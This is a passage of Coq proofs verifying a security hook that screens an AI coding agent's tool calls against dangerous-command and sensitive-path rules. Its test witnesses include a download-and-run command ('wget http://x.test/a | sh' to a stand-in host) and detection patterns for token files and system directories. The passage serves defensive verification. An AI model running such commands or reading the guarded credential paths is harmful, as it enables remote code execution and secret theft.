    exists d, "Bash". eexists.
    split; [reflexivity|]. split; [now apply Htool|].
    split; [simpl; tauto | reflexivity]. }
  destruct (in_strs tool_name _) eqn:EF.
  { apply in_strs_true in EF as (s & Hs & EF).
    destruct parameters as [| | | | |items|ps]; try discriminate.
    cbn [get bind]. destruct (check_subject _ _ _) as [r|] eqn:E.
    - apply check_subject_blocked in E as [named ->]. intros [= <-]. right.
      exists d, s. eexists.
      split; [reflexivity|]. split; [now apply Htool|].
      split; [simpl in *; tauto | reflexivity].
    - intros [= <-]. now left. }
  destruct (eq_str tool_name "Glob") eqn:EG.
  { apply eq_str_true in EG.
    destruct parameters as [| | | | |items|ps]; try discriminate.
    cbn [get bind]. destruct (for_return _ _) as [r|] eqn:E.
    - apply for_return_some in E as (v' & _ & E).
      apply check_subject_blocked in E as [named ->]. intros [= <-]. right.
      exists d, "Glob". eexists.
      split; [reflexivity|]. split; [now apply Htool|].
    split; [simpl; tauto | reflexivity].
    - intros [= <-]. now left. }
  destruct (eq_str tool_name "Grep") eqn:ER.
  { apply eq_str_true in ER.
    destruct parameters as [| | | | |items|ps]; try discriminate.
    cbn [get bind]. destruct (check_subject _ _ _) as [r|] eqn:E.
    - apply check_subject_blocked in E as [named ->]. intros [= <-]. right.
      exists d, "Grep". eexists.
      split; [reflexivity|]. split; [now apply Htool|].
    split; [simpl; tauto | reflexivity].
    - intros [= <-]. now left. }
  destruct (eq_str tool_name "LS") eqn:EL.
  { apply eq_str_true in EL.
    destruct parameters as [| | | | |items|ps]; try discriminate.
    cbn [get bind]. destruct (check_subject _ _ _) as [r|] eqn:E.
    - apply check_subject_blocked in E as [named ->]. intros [= <-]. right.
      exists d, "LS". eexists.
      split; [reflexivity|]. split; [now apply Htool|].
    split; [simpl; tauto | reflexivity].
    - intros [= <-]. now left. }
  cbn [bind]. intros [= <-]. now left.
Qed.

(** X10.  Only a recognized tool is ever denied, and every verdict
    explains itself: a verdict that allows has the reason "Operation
    allowed"; a verdict that denies belongs to a record whose ["tool"] is
    one of the eight recognized identifiers, and its reason begins with
    "Blocked ". *)
Theorem verdict_shape
  (o : set_order) (tool_data : value) (allowed : bool) (reason : string) :
  validate_tool_call o tool_data = Ok (allowed, reason) ->
  (allowed = true /\ reason = "Operation allowed")
  \/ (allowed = false
      /\ prefix "Blocked " reason = true
      /\ exists d tool,
           tool_data = VDict d
           /\ lookup d "tool" = Some (VStr tool)
           /\ In tool recognized_tools).
Proof.
  intros H.
  destruct (verdict_cases o tool_data _ H)
    as [[= -> ->] | (d & tool & rest & -> & Htool & Hin & [= -> ->])].
  - left. split; reflexivity.
  - right. split; [reflexivity|]. split.
    + apply (prefix_append "Blocked ").
    + now exists d, tool.
Qed.

Lemma verdict_shape_witness :
  (false = true
   /\ "Blocked grep access to sensitive path: Access to sensitive path pattern: .*token.*"
      = "Operation allowed")
  \/ (false = false
      /\ prefix "Blocked "
           "Blocked grep access to sensitive path: Access to sensitive path pattern: .*token.*"
         = true
      /\ exists d tool,
           invocation "Grep" [("pattern", VStr "x"); ("path", VStr "api_tokens.txt")] = VDict d
           /\ lookup d "tool" = Some (VStr tool)
           /\ In tool recognized_tools).
Proof.
  apply (verdict_shape listed_order). vm_compute. reflexivity.
Defined.

(** X11.  How a run of the hook can end, whatever the input: the status
    is 0 or 1 and there is at most one diagnostic line.  Status 1 always
    comes with one line, which begins "SECURITY BLOCK: Blocked " or "Error
    parsing hook input: "; status 0 comes with no line or with one
    "Security hook error: " line; and the run is silent exactly when the
    evaluator allowed the invocation. *)
Theorem run_hook_outcomes (o : set_order) (input : load) :
  (status (run_hook o input) = 0%Z \/ status (run_hook o input) = 1%Z)
  /\ (status (run_hook o input) = 1%Z ->
      exists line,
        stderr (run_hook o input) = [line]
        /\ (prefix "SECURITY BLOCK: Blocked " line = true
            \/ prefix "Error parsing hook input: " line = true))
  /\ (status (run_hook o input) = 0%Z ->
      stderr (run_hook o input) = []
      \/ exists msg, stderr (run_hook o input) = ["Security hook error: " ++ msg])
  /\ (stderr (run_hook o input) = [] <->
      exists tool_data,
        input = Loaded tool_data
        /\ validate_tool_call o tool_data = Ok (true, "Operation allowed")).
Proof.
  destruct input as [tool_data | cls msg].
  - destruct (validate_tool_call o tool_data) as [[allowed reason]|e] eqn:E.
    + rewrite (run_hook_verdict o tool_data allowed reason E).
      destruct (verdict_cases o tool_data _ E)
        as [[= -> ->] | (d & tool & rest & _ & _ & _ & [= -> ->])]; cbn [status stderr].
      * split; [now left|]. split; [discriminate|]. split; [now left|].
        split; [intros _; now exists tool_data | reflexivity].
      * split; [now right|]. split.
        { intros _. exists ("SECURITY BLOCK: " ++ ("Blocked " ++ rest)).
          split; [reflexivity|]. left.
          apply (prefix_append "SECURITY BLOCK: Blocked "). }
        split; [discriminate|].
        split; [discriminate | intros (t & [= <-] & H); congruence].
    + destruct (validate_raise _ _ _ E) as [msg ->].
      rewrite (run_hook_fault o tool_data AttributeError msg E). cbn [status stderr].
      split; [now left|]. split; [discriminate|]. split; [right; eauto|].
      split; [discriminate | intros (t & [= <-] & H); congruence].
  - destruct cls as [| |name].
    + rewrite run_hook_decode_error. cbn [status stderr].
      split; [now right|]. split.
      { intros _. exists ("Error parsing hook input: " ++ msg). split; [reflexivity|].
        right. apply (prefix_append "Error parsing hook input: "). }
      split; [discriminate|].
      split; [discriminate | intros (t & [=] & _)].
    + rewrite run_hook_load_fault by discriminate. cbn [status stderr].
      split; [now left|]. split; [discriminate|]. split; [right; eauto|].
      split; [discriminate | intros (t & [=] & _)].
    + rewrite run_hook_load_fault by discriminate. cbn [status stderr].
      split; [now left|]. split; [discriminate|]. split; [right; eauto|].
      split; [discriminate | intros (t & [=] & _)].
Qed.

(** ** Parameters the evaluator does not read *)

(** X12.  The verdict depends on the parameters only through the subject
    parameters of the tool ([command] for Bash; [file_path] for Read,
    Write, Edit and MultiEdit; [pattern] and [path] for Glob; [path] for
    Grep and LS; none for any other tool): two records for the same tool
    whose parameter mappings agree on those get the same result, reason
    included.  Written content, Grep's [pattern] and the like are never
    looked at. *)
Theorem only_subject_parameters_matter
  (o : set_order) (d d' : list (string * value)) (tool : string)
  (ps ps' : list (string * value)) :
  calls d tool ps ->
  calls d' tool ps' ->
  (forall field, In field (subject_fields tool) -> lookup ps field = lookup ps' field) ->
  validate_tool_call o (VDict d) = validate_tool_call o (VDict d').
Proof.
  intros Hc Hc' Hsame.
  destruct (calls_get _ _ _ Hc) as [Htool Hparams].
  destruct (calls_get _ _ _ Hc') as [Htool' Hparams'].
  unfold validate_tool_call. rewrite Htool, Hparams, Htool', Hparams'.
  cbn [bind eq_str get]. unfold subject_fields in Hsame.
  change (in_strs (VStr tool) ["Read"; "Write"; "Edit"; "MultiEdit"])
    with (existsb (String.eqb tool) ["Read"; "Write"; "Edit"; "MultiEdit"]).
  destruct (String.eqb tool "Bash").
  { rewrite (Hsame "command") by (simpl; tauto). reflexivity. }
  destruct (existsb (String.eqb tool) _).
  { rewrite (Hsame "file_path") by (simpl; tauto). reflexivity. }
  destruct (String.eqb tool "Glob").
  { rewrite (Hsame "pattern"), (Hsame "path") by (simpl; tauto). reflexivity. }
  destruct (String.eqb tool "Grep").
  { rewrite (Hsame "path") by (simpl; tauto). reflexivity. }
  destruct (String.eqb tool "LS").
  { rewrite (Hsame "path") by (simpl; tauto). reflexivity. }
  reflexivity.
Qed.

Lemma only_subject_parameters_matter_witness :
  validate_tool_call listed_order
    (invocation "Write"
       [("file_path", VStr "notes.md"); ("content", VStr "password=hunter2")])
  = validate_tool_call listed_order
      (invocation "Write" [("content", VStr ""); ("file_path", VStr "notes.md")]).
Proof.
  apply (only_subject_parameters_matter listed_order _ _ "Write"
           [("file_path", VStr "notes.md"); ("content", VStr "password=hunter2")]
           [("content", VStr ""); ("file_path", VStr "notes.md")]).
  - split; [reflexivity | left; reflexivity].
  - split; [reflexivity | left; reflexivity].
  - intros field [<- | []]. reflexivity.
Defined.

(** ** Letter case of commands *)

Section CaseFolding.

Lemma item_matches_lower (x : ascii) (item : Re.set_item) :
  Re.item_matches true (Char.lower x) item = Re.item_matches true x item.
Proof.
  destruct item as [c | lo hi |]; simpl.
  - now rewrite char_lower_idem.
  - now rewrite char_lower_idem, char_upper_lower.
  - apply char_isspace_lower.
Qed.

Lemma one_char_lower (ok : ascii -> bool) (s : string) :
  (forall x, ok (Char.lower x) = ok x) ->
  Re.one_char ok (Str.lower s) = map Str.lower (Re.one_char ok s).
Proof.
  intros Hok. destruct s as [|x t]; simpl; [reflexivity|].
  rewrite Hok. destruct (ok x); reflexivity.
Qed.

Lemma at_end_lower (s : string) : Re.at_end (Str.lower s) = Re.at_end s.
Proof.
  destruct s as [|x [|y t]]; simpl; try reflexivity.
  apply char_line_feed_lower.
Qed.

Lemma flat_map_lower (f : string -> list string) (l : list string) :
  (forall t, f (Str.lower t) = map Str.lower (f t)) ->
  flat_map f (map Str.lower l) = map Str.lower (flat_map f l).
Proof.
  intros Hf. induction l as [|t l IH]; simpl; [reflexivity|].
  now rewrite Hf, IH, map_app.
Qed.

Lemma star_ends_lower (step : string -> list string) :
  (forall t, step (Str.lower t) = map Str.lower (step t)) ->
  forall fuel s,
    Re.star_ends step fuel (Str.lower s) = map Str.lower (Re.star_ends step fuel s).
Proof.
  intros Hstep. induction fuel as [|fuel IH]; intros s; simpl; [reflexivity|].
  rewrite Hstep, map_app. f_equal.
  induction (step s) as [|t l IHl]; simpl; [reflexivity|].
  rewrite IHl, map_app, !length_lower. f_equal.
  destruct (length t <? length s)%nat; [apply IH | reflexivity].
Qed.

(** Under [re.IGNORECASE] a pattern matches the folded subject the way it
    matches the subject. *)
Lemma ends_lower (r : Re.regex) :
  forall s, Re.ends true r (Str.lower s) = map Str.lower (Re.ends true r s).
Proof.
  induction r as [|c| | |negated items| |r1 IH1 r2 IH2|r1 IH1 r2 IH2|r IH|r IH|r IH];
    intros s; cbn [Re.ends].
  - reflexivity.
  - apply one_char_lower. intros x. unfold Re.char_matches. now rewrite char_lower_idem.
  - apply one_char_lower. intros x. now rewrite char_line_feed_lower.
  - apply one_char_lower, char_isspace_lower.
  - apply one_char_lower. intros x. f_equal.
    induction items as [|item items IHi]; simpl; [reflexivity|].
    now rewrite item_matches_lower, IHi.
  - rewrite at_end_lower. destruct (Re.at_end s); reflexivity.
  - rewrite IH1. now apply flat_map_lower.
  - now rewrite IH1, IH2, map_app.
  - rewrite length_lower. now apply star_ends_lower.
  - rewrite IH.
    apply (flat_map_lower (fun t => Re.star_ends (Re.ends true r) (length t) t)).
    intros t. rewrite length_lower. now apply star_ends_lower.
  - now rewrite IH, map_app.
Qed.

Lemma search_from_lower (r : Re.regex) (s : string) :
  Re.search_from true r (Str.lower s) = Re.search_from true r s.
Proof.
  assert (Hat : forall t, Re.matches_at true r (Str.lower t) = Re.matches_at true r t).
  { intros t. unfold Re.matches_at. rewrite ends_lower.
    destruct (Re.ends true r t); reflexivity. }
  induction s as [|x s IH].
  - reflexivity.
  - change (Str.lower (String x s)) with (String (Char.lower x) (Str.lower s)).
    cbn [Re.search_from].
    rewrite <- IH.
    change (String (Char.lower x) (Str.lower s)) with (Str.lower (String x s)).
    now rewrite Hat.
Qed.

Lemma search_lower (pattern s : string) :
  Re.search pattern (Str.lower s) true = Re.search pattern s true.
Proof.
  unfold Re.search. destruct (Re.compile pattern); [apply search_from_lower | reflexivity].
Qed.

Lemma dangerous_lower (c : string) : dangerous (Str.lower c) = dangerous c.
Proof.
  unfold dangerous, exact_command_hit. rewrite lower_idem. f_equal.
  induction DANGEROUS_PATTERNS as [|p l IH]; simpl; [reflexivity|].
  now rewrite search_lower, IH.
Qed.

End CaseFolding.

(** X13.  On commands written with the code points U+0000..U+00FF, which
    is what a [string] of this development holds, the verdict does not
    depend on letter case: two Bash invocations whose command strings
    have the same case-folded text are both allowed or both denied, in
    whatever iteration orders they are evaluated.  (The exact rules are
    looked for in the folded command, and the patterns are matched with
    [re.IGNORECASE].  The statement does not reach beyond that range,
    where [str.lower] can change the length of a text and
    [re.IGNORECASE] pairs letters that [str.lower] does not.) *)
Theorem command_case_insensitive
  (o1 o2 : set_order) (d1 d2 ps1 ps2 : list (string * value)) (c1 c2 : string) :
  calls d1 "Bash" ps1 ->
  calls d2 "Bash" ps2 ->
  lookup ps1 "command" = Some (VStr c1) ->
  lookup ps2 "command" = Some (VStr c2) ->
  Str.lower c1 = Str.lower c2 ->
  dangerous c1 = dangerous c2
  /\ allowed_of (validate_tool_call o1 (VDict d1))
     = allowed_of (validate_tool_call o2 (VDict d2)).
Proof.
  intros H1 H2 Hc1 Hc2 Hlow.
  assert (Hd : dangerous c1 = dangerous c2).
  { rewrite <- (dangerous_lower c1), <- (dangerous_lower c2). now rewrite Hlow. }
  split; [exact Hd|].
  destruct (bash_returns o1 d1 ps1 c1 H1) as (r1 & _ & ->);
    [unfold field_value; now rewrite Hc1|].
  destruct (bash_returns o2 d2 ps2 c2 H2) as (r2 & _ & ->);
    [unfold field_value; now rewrite Hc2|].
  rewrite Hd. destruct (dangerous c2); reflexivity.
Qed.

Lemma command_case_insensitive_witness :
  dangerous "Wget http://x.test/a | SH" = dangerous "wget HTTP://X.TEST/A | sh"
  /\ allowed_of (validate_tool_call listed_order
                   (invocation "Bash" [("command", VStr "Wget http://x.test/a | SH")]))
     = allowed_of (validate_tool_call reversed_order
                     (invocation "Bash" [("command", VStr "wget HTTP://X.TEST/A | sh")])).
Proof.
  apply (command_case_insensitive listed_order reversed_order
           [("tool", VStr "Bash");
            ("parameters", VDict [("command", VStr "Wget http://x.test/a | SH")])]
           [("tool", VStr "Bash");
            ("parameters", VDict [("command", VStr "wget HTTP://X.TEST/A | sh")])]
           [("command", VStr "Wget http://x.test/a | SH")]
           [("command", VStr "wget HTTP://X.TEST/A | sh")]
           "Wget http://x.test/a | SH" "wget HTTP://X.TEST/A | sh").
  - split; [reflexivity | left; reflexivity].
  - split; [reflexivity | left; reflexivity].
  - reflexivity.
  - reflexivity.
  - reflexivity.
Defined.

(** ** Patterns that an exact rule always precedes *)

Lemma matches_literal_head (r : Re.regex) :
  forall b t,
    Re.Matches true r b t ->
    exists rest, Str.lower b = Str.lower (literal_head r) ++ rest.
Proof.
  induction r as [|c| | |negated items| |r1 _ r2 IH2|r1 _ r2 _|r _|r _|r _];
    intros b t H; try (exists (Str.lower b); reflexivity).
  destruct r1; try (exists (Str.lower b); reflexivity).
  inversion H as [| | | | | |? ? ? m ? H1 H2| | | | | | |]; subst.
  inversion H1 as [|? x ? Hx| | | | | | | | | | | |]; subst.
  destruct (IH2 _ _ H2) as [rest Hrest].
  exists rest. cbn [literal_head Str.lower append].
  unfold Re.char_matches in Hx. apply Ascii.eqb_eq in Hx.
  now rewrite Hrest, Hx.
Qed.

Lemma append_cancel (p a b : string) : p ++ a = p ++ b -> a = b.
Proof. induction p as [|x p IH]; simpl; [trivial | intros [= H]; auto]. Qed.

Lemma contains_shorter (p q s : string) :
  Str.contains (p ++ q) s = true -> Str.contains p s = true.
Proof.
  intros H. apply contains_split in H as (a & b & ->).
  rewrite (append_assoc p q b). apply contains_append.
Qed.

(** A folded text that a pattern matches contains the folded literal
    characters the pattern begins with. *)
Lemma search_contains_head (pattern : string) (r : Re.regex) (txt : string) :
  Re.compile pattern = Some r ->
  Re.search pattern (Str.lower txt) true = true ->
  Str.contains (Str.lower (literal_head r)) (Str.lower txt) = true.
Proof.
  intros Hc Hs. unfold Re.search in Hs. rewrite Hc in Hs.
  apply search_from_spec in Hs as (a & b & t & E & Hm).
  apply matches_literal_head in Hm as [rest Hrest].
  pose proof (f_equal Str.lower E) as E'.
  rewrite lower_idem, lower_append, Hrest in E'. rewrite E'.
  apply contains_append.
Qed.

Lemma shadowed_pattern_exact_hit (pattern txt : string) :
  In pattern shadowed_path_patterns ->
  Re.search pattern (Str.lower txt) true = true ->
  existsb (exact_path_hit (Str.lower txt)) SENSITIVE_PATHS = true.
Proof.
  intros Hin Hs. simpl in Hin.
  repeat (destruct Hin as [<- | Hin]); try contradiction;
    match goal with
    | H : Re.search ?p _ true = true |- _ =>
        let r := eval vm_compute in (Re.compile p) in
        match r with
        | Some ?rx =>
            apply (search_contains_head p rx) in H; [| vm_compute; reflexivity]
        end
    end;
    cbn [literal_head Str.lower] in Hs.
  - apply existsb_exists. exists "/root". split; [simpl; tauto|].
    unfold exact_path_hit. apply orb_true_iff. left.
    apply (contains_shorter "/root" "/"). exact Hs.
  - apply existsb_exists. exists "/boot". split; [simpl; tauto|].
    unfold exact_path_hit. apply orb_true_iff. left.
    apply (contains_shorter "/boot" "/"). exact Hs.
  - apply existsb_exists. exists "/sys". split; [simpl; tauto|].
    unfold exact_path_hit. apply orb_true_iff. left.
    apply (contains_shorter "/sys" "/"). exact Hs.
  - apply existsb_exists. exists "/proc/sys". split; [simpl; tauto|].
    unfold exact_path_hit. apply orb_true_iff. left.
    apply (contains_shorter "/proc/sys" "/"). exact Hs.
  - apply existsb_exists. exists "/dev". split; [simpl; tauto|].
    unfold exact_path_hit. apply orb_true_iff. left.
    apply (contains_shorter "/dev" "/"). exact Hs.
  - apply existsb_exists. exists "/var/log". split; [simpl; tauto|].
    unfold exact_path_hit. apply orb_true_iff. left.
    apply (contains_shorter "/var/log" "/"). exact Hs.
  - apply existsb_exists. exists "/var/spool/cron". split; [simpl; tauto|].
    unfold exact_path_hit. apply orb_true_iff. left.
    apply (contains_shorter "/var/spool/cron" "/"). exact Hs.
Qed.

(** X14.  On subjects whose text is written with the code points
    U+0000..U+00FF, which is what a [string] of this development holds,
    seven of the sixteen path patterns never decide anything: whenever
    [/root/.*], [/boot/.*], [/sys/.*], [/proc/sys/.*], [/dev/.*],
    [/var/log/.*] or [/var/spool/cron/.*] matches the folded subject, an
    exact path rule fires on it, and the exact rules are checked first.
    So on such a subject [check_sensitive_path] never gives one of these
    patterns as its reason.  (The statement does not reach beyond that
    range, where [re.IGNORECASE] lets a pattern letter match a character
    that is not its lower or upper case.) *)
Theorem shadowed_pattern_never_named
  (o : set_order) (path : value) (pattern : string) :
  In pattern shadowed_path_patterns ->
  In pattern SENSITIVE_PATH_PATTERNS
  /\ (Re.search pattern (Str.lower (str path)) true = true ->
      existsb (exact_path_hit (Str.lower (str path))) SENSITIVE_PATHS = true)
  /\ snd (check_sensitive_path o path)
     <> Some ("Access to sensitive path pattern: " ++ pattern).
Proof.
  intros Hin. split; [|split].
  - simpl in Hin. repeat (destruct Hin as [<- | Hin]); try contradiction; simpl; tauto.
  - now apply shadowed_pattern_exact_hit.
  - destruct (check_sensitive_path o path) as [flag reason] eqn:E. cbn [snd].
    destruct (check_sensitive_path_flag o path) as (reason' & E' & _ & Hn).
    rewrite E in E'. injection E' as -> <-.
    destruct (sensitive path) eqn:Es; [|rewrite (Hn eq_refl); discriminate].
    apply check_sensitive_path_reason in E
      as [(before & rule & after & _ & _ & _ & ->)
         | (Hnone & before & p & after & Hp & _ & Hm & ->)].
    + intros H.
      pose proof (f_equal (fun x => match x with Some t => t | None => "" end) H) as H'.
      cbv beta iota in H'.
      apply (append_cancel "Access to sensitive path"
               (": " ++ rule) (" pattern: " ++ pattern)) in H'.
      discriminate H'.
    + intros H.
      pose proof (f_equal (fun x => match x with Some t => t | None => "" end) H) as H'.
      cbv beta iota in H'.
      apply (append_cancel "Access to sensitive path pattern: " p pattern) in H'.
      subst p.
      rewrite (shadowed_pattern_exact_hit pattern (str path) Hin Hm) in Hnone.
      discriminate.
Qed.

Lemma shadowed_pattern_never_named_witness :
  In "/dev/.*" SENSITIVE_PATH_PATTERNS
  /\ (Re.search "/dev/.*" (Str.lower (str (VStr "/dev/sda1"))) true = true ->
      existsb (exact_path_hit (Str.lower (str (VStr "/dev/sda1")))) SENSITIVE_PATHS = true)
  /\ snd (check_sensitive_path reversed_order (VStr "/dev/sda1"))
     <> Some ("Access to sensitive path pattern: " ++ "/dev/.*").
Proof.
  apply (shadowed_pattern_never_named reversed_order (VStr "/dev/sda1") "/dev/.*").
  simpl; tauto.
Defined.
